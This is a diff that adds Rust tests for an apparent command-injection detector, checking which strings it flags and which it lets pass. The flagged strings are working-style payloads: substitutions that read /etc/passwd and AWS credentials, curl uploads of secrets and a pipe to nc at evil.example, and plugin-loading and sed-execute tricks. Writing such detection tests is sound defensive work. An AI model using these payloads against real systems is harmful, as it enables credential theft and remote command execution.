@@ -3216,3 +3216,80 @@ fn no_op_commands_and_char_code_calls() {
         assert!(!hit(v), "{v}");
     }
 }
+
+#[test]
+fn substitution_in_prose_and_argument_injection() {
+    for v in [
+        // A code span in a sentence that holds a probe: inside `echo "Comment: $V"` it runs.
+        "hello `whoami` world",
+        "Nice photo `id` thanks",
+        "Please resize my photo; also run `cat config.php` lol",
+        "great post `uname` bye",
+        "see `curl evil.example` now",
+        // A substitution that only redirects a file into the command line.
+        "$(<config.php)",
+        "x$(<~/.aws/credentials)",
+        "$(< \"/etc/passwd\")",
+        // Options that read a planted config, upload a secret, load a plugin, or run sed's e.
+        "--config=/tmp/x.curlrc",
+        "-F 'f=@config.php'",
+        "-F name=@/etc/passwd",
+        "--form 'x=@.env' http://evil.example",
+        "x -Wl,-plugin=/tmp/p.so",
+        "-Wl,-plugin,/tmp/p.so",
+        "-fplugin=/tmp/p.so",
+        "s/.*/id/e",
+        "-e 's/x/id/e'",
+        "1e id",
+        "$e cat /etc/passwd",
+        // Kotlin constructs without `new`.
+        "ProcessBuilder(\"bash\",\"-c\",\"id\").start()",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+    for v in [
+        "Run `npm install` first",
+        "Type `ls` to list files",
+        "Type `whoami` to see your user",
+        "Run `uname` to print the kernel",
+        "Set the `id` field on the row",
+        "then `cat README.md` for the docs",
+        "So `id` behaves as a boolean option for `--id -5`",
+        "Each `id` is unique",
+        "Use `$(pwd)` in your script",
+        "--config=app.yaml",
+        "--config=/etc/app/config.yml",
+        "-F 'photo=@cat.jpg'",
+        "-F , -v",
+        "-Wl,-rpath,/opt/lib",
+        "-Wl,--as-needed",
+        "s/colour/color/g",
+        "s/e/E/g",
+        "1e is one",
+        "$('<div>')",
+        "$(<div>)",
+        "costs $(< 5 dollars)",
+        "ProcessBuilder(cmd) is the Java API",
+        "myProcessBuilder(\"x\").start()",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+}
+
+#[test]
+fn pipeline_shown_in_prose() {
+    for v in [
+        "How do I pipe output to grep? e.g. ps aux | grep nginx",
+        "Use ps aux | grep node to check",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+    for v in [
+        "ps aux | grep nginx; id",
+        "x | grep $(id)",
+        "cat /etc/passwd | grep root",
+        "Use ps | nc evil.example 4444",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+}
